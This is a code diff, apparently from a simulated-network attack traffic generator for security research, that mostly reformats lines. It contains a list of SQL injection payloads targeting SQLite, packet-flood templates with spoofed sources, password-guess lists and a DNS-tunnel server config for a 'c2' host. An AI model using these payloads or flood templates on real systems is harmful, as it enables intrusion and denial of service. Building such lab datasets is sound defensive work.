@@ -16,9 +16,10 @@ LIMIT_SECONDS = 30
 """How long a step may take unless it says otherwise."""
 COMMON_PATHS = Path("/usr/share/dirb/wordlists/common.txt")
 INJECTIONS = (
-    "1'", '1"', "1)", "1 or 1=1", "1' or '1'='1", "1 and 1=2", "1 union select 1,2,3", "1 order by 9", "-1 union all select null",
-    "1;select sqlite_version()", "1 and (select count(*) from sqlite_master)>0", "1 union select sql,2,3 from sqlite_master",
-    "1 and randomblob(9999)", "1 having 1=1", "1'--", "1/**/and/**/1=1", "(select 1)", "1 and substr(sqlite_version(),1,1)=3",
+    "1'", '1"', "1)", "1 or 1=1", "1' or '1'='1", "1 and 1=2", "1 union select 1,2,3", "1 order by 9",
+    "-1 union all select null", "1;select sqlite_version()", "1 and (select count(*) from sqlite_master)>0",
+    "1 union select sql,2,3 from sqlite_master", "1 and randomblob(9999)", "1 having 1=1", "1'--", "1/**/and/**/1=1",
+    "(select 1)", "1 and substr(sqlite_version(),1,1)=3",
 )  # fmt: skip
 
 _TRAFGEN = {
@@ -28,7 +29,8 @@ _TRAFGEN = {
     "tcp(sp=drnd(), dp={ssh}, seq=drnd(), win=1024, syn) }}\n",
     "udpflood": "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=64, sa={attacker}, da={files}), "
     "udp(sp=drnd(), dp=123), fill(0x41, 400) }}\n"
-    "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=64, sa=drnd(), da={web}), udp(sp=drnd(), dp=drnd()), drnd(64) }}\n",
+    "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=64, sa=drnd(), da={web}), "
+    "udp(sp=drnd(), dp=drnd()), drnd(64) }}\n",
     "icmpflood": "{{ eth(da={mac}, sa={own}), ipv4(id=drnd(), ttl=64, sa=drnd(), da={shell}), "
     "icmp4(echorequest, id=drnd(), seq=drnd()), drnd(120) }}\n",
 }
@@ -49,9 +51,11 @@ def _write(name: str, text: str) -> str:
 def values(plan: dict, python: str) -> dict[str, object]:
     """What {names} in a step's command stand for in this run; writes the word lists and files they name."""
     rng = random.Random(f"attack {plan['seed']}")
-    address = {name: address_of(plan, name) for name in ("web", "cdn", "files", "shell", "db", "mail", "plc", "dns", "c2", "attacker")}
+    named = ("web", "cdn", "files", "shell", "db", "mail", "plc", "dns", "c2", "attacker")
+    address = {name: address_of(plan, name) for name in named}
     user, password = sorted(plan["users"].items())[0]
-    guesses = [f"{word}{number}" for word in ("admin", "pass", "letmein", "qwerty", "summer", "root") for number in range(8)]
+    words = ("admin", "pass", "letmein", "qwerty", "summer", "root")
+    guesses = [f"{word}{number}" for word in words for number in range(8)]
     rng.shuffle(guesses)
     accounts = ["root", "admin", "test", "oracle", "guest", *plan["users"]]
     known = COMMON_PATHS.read_text(errors="replace").split()
@@ -74,8 +78,8 @@ def values(plan: dict, python: str) -> dict[str, object]:
         "injections": _write("injections.txt", "\n".join(line.replace(" ", "%20") for line in INJECTIONS * 4) + "\n"),
         "dns2tcpd": _write(
             "dns2tcpd.conf",
-            f"listen = 0.0.0.0\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = {plan['tunnel_domain']}\nkey = {secret}\n"
-            "resources = http:127.0.0.1:9100\n",
+            f"listen = 0.0.0.0\nport = 53\nuser = nobody\nchroot = /tmp\ndomain = {plan['tunnel_domain']}\n"
+            f"key = {secret}\nresources = http:127.0.0.1:9100\n",
         ),
         **{name: _write(f"{name}.cfg", text.format(**flood)) for name, text in _TRAFGEN.items()},
     }  # fmt: skip
@@ -103,7 +107,7 @@ def _start(net: Net, step: dict, known: dict[str, object], number: int):
 def _serve(net: Net, step: dict, known: dict[str, object], number: int) -> None:
     rng = random.Random(net.plan["seed"])
     if step.get("service") == "ftp":
-        servers.start_ftp(net, "c2", 21)
+        servers.start_ftp(net, "c2", 21, rng)
     elif step.get("service") == "ssh":
         servers.start_ssh(net, "c2", 22, rng)
     else:
